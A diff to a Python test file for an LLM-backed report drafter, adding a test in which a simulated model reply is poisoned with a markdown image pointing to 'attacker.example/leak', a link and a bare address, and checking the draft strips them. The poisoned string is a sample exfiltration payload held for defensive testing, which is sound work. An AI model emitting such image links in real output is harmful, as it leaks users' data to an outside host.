@@ -344,3 +344,16 @@ def test_the_appraisals_figures_open_and_the_works_results_go_to_the_assurances(
     assert lines["opening"][1:] == ["开展评议大会12场次", "群众满意度达96%", "发放评议问卷300多份"]
     assert "节约成本420万元" in lines["assurances"]
     assert "收集意见建议45条" in lines["measures"]
+
+
+def test_images_and_links_an_llm_writes_never_reach_the_draft(fake_openai_env):
+    """OWASP LLM05: a section reply carrying an image, a link and a bare address renders as plain words."""
+    poisoned = dict(SECTIONS)
+    poisoned["存在的问题"] = (SECTIONS["存在的问题"] + "\n详见![图](http://attacker.example/leak?d=1)"
+                            "[整改通知](http://attacker.example/a)，或访问 www.attacker.example/b 。")
+    fake_openai_env.reply = model_reply(poisoned)
+    draft = engine().write(FACTS, EXEMPLARS)
+
+    for text in (draft.text, draft.markdown):
+        assert "attacker" not in text and "](" not in text and "<img" not in text
+    assert "整改通知" in draft.text  # a link keeps its words
